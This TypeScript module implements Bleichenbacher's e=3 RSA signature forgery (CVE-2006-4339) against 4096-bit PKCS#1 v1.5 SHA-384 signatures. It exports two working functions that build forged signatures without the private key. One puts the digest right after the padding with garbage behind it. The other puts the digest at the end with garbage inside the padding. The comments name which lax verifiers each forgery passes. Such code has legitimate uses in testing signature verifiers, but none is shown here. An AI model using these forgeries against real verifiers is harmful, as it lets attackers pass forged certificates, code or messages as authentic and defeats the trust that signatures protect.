import { createHash } from 'node:crypto';
import { concat, fixedWidth, hex, toNumber } from './der.ts';

/** DigestInfo header for SHA-384 (RFC 8017 section 9.2, note 1). */
const SHA384_DIGEST_INFO = hex('3041300d060960864801650304020205000430');

/** The smallest whole number whose cube is not below `value`. */
function cubeRootUp(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (low < high) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n < value) low = middle + 1n;
    else high = middle;
  }
  return low;
}

/** The odd number whose cube ends in these bits; every odd number has one (Newton, one bit a step). */
function cubeRootOfEnd(end: bigint, bits: number): bigint {
  let root = 1n;
  for (let bit = 1n; bit < BigInt(bits); bit++) {
    const mask = (1n << (bit + 1n)) - 1n;
    if (((root ** 3n) & mask) !== (end & mask)) root += 1n << bit;
  }
  return root;
}

/** Octets of a 4096-bit key. */
const OCTETS = 512;

function encodedDigest(message: Uint8Array): Uint8Array {
  return concat(SHA384_DIGEST_INFO, new Uint8Array(createHash('sha384').update(message).digest()));
}

/**
 * A signature under any 4096-bit key with e = 3, made without the private key: a cube whose first octets are
 * a good padding of `padding` octets FF, and whose rest is garbage (Bleichenbacher 2006, CVE-2006-4339). It passes
 * with a verifier that does not look where the padding ends; the root of the RSA chain has e = 3. There is room for
 * 96 octets FF, for a verifier that asks for more than the eight of the standard.
 */
export function cubeRootForgery(message: Uint8Array, padding = 8): Uint8Array {
  const start = concat(hex('0001'), new Uint8Array(padding).fill(0xff), hex('00'), encodedDigest(message));
  const block = concat(start, new Uint8Array(OCTETS - start.length));
  const signature = cubeRootUp(toNumber(block));
  const cube = fixedWidth(signature ** 3n, OCTETS);
  if (Buffer.compare(cube.subarray(0, start.length), start) !== 0)
    throw new Error('the cube root is too coarse');
  return fixedWidth(signature, OCTETS);
}

/**
 * The same with the digest where it belongs, at the end, and garbage within the padding behind a short run of FF: it
 * passes with a verifier that looks for the end alone. Null for a digest that is even, of which there is no such cube.
 */
export function paddedForgery(message: Uint8Array): Uint8Array | null {
  const end = concat(hex('00'), encodedDigest(message));
  const bits = 8 * end.length;
  if (end.at(-1)! % 2 === 0) return null;
  const start = concat(hex('0001'), new Uint8Array(8).fill(0xff));
  const head = cubeRootUp(toNumber(concat(start, hex('80'), new Uint8Array(OCTETS - start.length - 1))));
  const signature = ((head >> BigInt(bits)) << BigInt(bits)) + cubeRootOfEnd(toNumber(end), bits);
  const cube = fixedWidth(signature ** 3n, OCTETS);
  const isForged =
    Buffer.compare(cube.subarray(0, start.length), start) === 0 &&
    Buffer.compare(cube.subarray(-end.length), end) === 0;
  if (!isForged) throw new Error('the cube root is too coarse');
  return fixedWidth(signature, OCTETS);
}
